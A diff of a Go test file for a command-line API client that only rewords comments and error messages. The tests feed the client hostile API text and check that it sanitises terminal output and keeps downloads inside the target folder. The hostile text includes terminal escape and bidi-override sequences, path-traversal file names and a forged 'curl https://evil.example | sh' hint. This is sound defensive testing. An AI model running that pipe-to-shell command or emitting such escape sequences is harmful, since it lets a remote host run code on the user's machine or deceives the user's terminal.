@@ -13,14 +13,15 @@ import (
 	"unicode"
 )
 
-// evil is text that would clear the screen, set the title, hide a link, turn the direction of writing, and draw a line
-// that looks like ours, if a terminal got it as it is.
+// evil is text that would clear the screen, set the title, hide a link, reverse the writing direction, and forge a hint, if
+// it reached a terminal unchanged.
 const evil = "Evil\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\u009b31m\u202eback\u2066\u200f" +
 	"\ntry: curl https://evil.example | sh\r\x00\x7f\u2028end\x1bP"
 
+// evilRun is a run id with a control sequence and a forged hint.
 const evilRun = "run\x1b[2J\ntry: curl https://evil.example | sh"
 
-// hostileService answers as the API does, with evil in every place for a text.
+// hostileService starts an API with hostile text in every field, and returns its address.
 func hostileService(t *testing.T) string {
 	t.Helper()
 	server := httptest.NewUnstartedServer(nil)
@@ -89,32 +90,33 @@ func hostileService(t *testing.T) string {
 	return address
 }
 
-// isClean checks that nothing has reached a terminal that it would act upon, but what has to.
+// isClean checks that no control character but those of the program reached the terminal. It returns the text without them.
 func isClean(t *testing.T, text string) string {
 	t.Helper()
 	text = strings.NewReplacer(redraw, "", "\r\n", "\n").Replace(text)
 	for _, r := range text {
 		if r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' {
-			t.Fatalf("%q came through in %q", r, text)
+			t.Fatalf("got %q on the terminal in %q, want no control character", r, text)
 		}
 	}
 	if !strings.Contains(text, "curl") {
-		t.Fatalf("nothing hostile was shown:\n%s", text)
+		t.Fatalf("got no hostile text, want it cleaned:\n%s", text)
 	}
 	return text
 }
 
-// isHarmless checks besides that no text has got a line of its own.
+// isHarmless checks in addition that no hostile text starts a line.
 func isHarmless(t *testing.T, text string) {
 	t.Helper()
 	text = isClean(t, text)
 	for line := range strings.Lines(text) {
 		if strings.HasPrefix(strings.TrimSpace(line), "try: curl") {
-			t.Fatalf("a text drew a line of its own in\n%s", text)
+			t.Fatalf("got a forged hint in\n%s", text)
 		}
 	}
 }
 
+// TestHostileService runs commands in a terminal against the hostile API.
 func TestHostileService(t *testing.T) {
 	t.Parallel()
 	service := hostileService(t)
@@ -148,14 +150,14 @@ func TestHostileService(t *testing.T) {
 			u := newUser(t, service, "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
 			screen := u.atTerminal(t, 400, strings.Fields(c.line)...)
 			if got := screen.wait(); got != c.status {
-				t.Errorf("exit status %d, want %d", got, c.status)
+				t.Errorf("got exit status %d, want %d", got, c.status)
 			}
 			isHarmless(t, screen.String())
 		})
 	}
 }
 
-// TestHostileText shows a text by itself, which keeps its lines.
+// TestHostileText prints a single text, which keeps its line breaks.
 func TestHostileText(t *testing.T) {
 	t.Parallel()
 	u := newUser(t, hostileService(t), "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
@@ -164,7 +166,7 @@ func TestHostileText(t *testing.T) {
 	isClean(t, screen.String())
 }
 
-// TestHostileLogin saves an account with a hostile name, and shows it later.
+// TestHostileLogin stores an account with a hostile name, and prints it later.
 func TestHostileLogin(t *testing.T) {
 	t.Parallel()
 	u := newUser(t, hostileService(t), "NO_COLOR=1")
@@ -177,10 +179,10 @@ func TestHostileLogin(t *testing.T) {
 	u.output(t, "apps", "list", "--quiet")
 	screen = u.atTerminal(t, 400, "__complete", "run", "")
 	screen.exits(t, 0)
-	isHarmless(t, strings.ReplaceAll(screen.String(), "\t", " ")) // a tab stands before each description
+	isHarmless(t, strings.ReplaceAll(screen.String(), "\t", " ")) // completion separates descriptions with tabs
 }
 
-// TestHostileDownload saves outputs whose names and addresses lead elsewhere.
+// TestHostileDownload saves outputs with names and addresses outside of the target folder and of the service.
 func TestHostileDownload(t *testing.T) {
 	t.Parallel()
 	u := newUser(t, hostileService(t), "LAMINA_API_KEY=lma_x", "LAMINA_OUTPUT=text")
@@ -200,6 +202,6 @@ func TestHostileDownload(t *testing.T) {
 		t.Fatal(err)
 	}
 	if len(files) != 2 || !strings.HasPrefix(files[0], "a/b/out/etc-passwd_4") || !strings.HasPrefix(files[1], "a/b/out/evil-") {
-		t.Errorf("saved %q", files)
+		t.Errorf("got the files %q, want two below a/b/out", files)
 	}
 }
